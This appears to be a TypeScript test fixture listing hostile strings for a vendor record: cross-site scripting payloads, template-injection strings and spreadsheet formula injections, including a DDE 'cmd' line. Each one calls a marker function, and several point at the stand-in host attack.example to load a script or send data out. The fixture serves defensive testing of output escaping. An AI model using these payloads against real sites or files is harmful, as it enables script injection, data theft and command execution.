// Texts that somebody might type into a vendor's record to make a browser, a template or a spreadsheet do something. Invariant: each one
// that could be carried out calls `attack` with its own mark, so a test can tell which one was.

/** @param mark tells this text from every other one */
type Hostile = (mark: string) => string;

export const HOSTILE: readonly Hostile[] = [
  (mark) => `<script>attack('${mark}')</script>`,
  (mark) => `<img src=x onerror=attack('${mark}')>`,
  (mark) => `"><svg onload=attack('${mark}')>`,
  (mark) => `'-attack('${mark}')-'`,
  (mark) => `javascript:attack('${mark}')`,
  (mark) => `{{constructor.constructor("attack('${mark}')")()}}`,
  (mark) => `\${attack('${mark}')}`,
  (mark) => `<iframe srcdoc="<script>parent.attack('${mark}')</script>"></iframe>`,
  (mark) => `<a href="javascript:attack('${mark}')">Havukka</a>`,
  (mark) => `</title></textarea><script>attack('${mark}')</script>`,
  (mark) => `<style>@import'//attack.example/${mark}'</style>`,
  (mark) => `<math><mtext><mglyph><style><img src onerror=attack('${mark}')>`,
  (mark) => `<details open ontoggle=attack('${mark}')>`,
  (mark) => `&lt;script&gt;attack('${mark}')&lt;/script&gt;`,
  (mark) => `$t(common:yes) {{value}} %{x} ${mark}`,
  (mark) => `<img src="https://attack.example/${mark}.png">`,
  (mark) => `<base href="https://attack.example/${mark}/">`,
  (mark) => `<form action="https://attack.example/${mark}"><button>OK</button>`,
  (mark) => `</script><script src="https://attack.example/${mark}.js"></script>`,
  (mark) => `\\u003cscript\\u003eattack('${mark}')\\u003c/script\\u003e`,
  (mark) => `=HYPERLINK("https://attack.example/${mark}","Open")`,
  (mark) => `+cmd|' /C attack-${mark}'!A0`,
  (mark) => `@SUM(1+1)*attack-${mark}`,
  (mark) => `-2+3+attack-${mark}`,
];
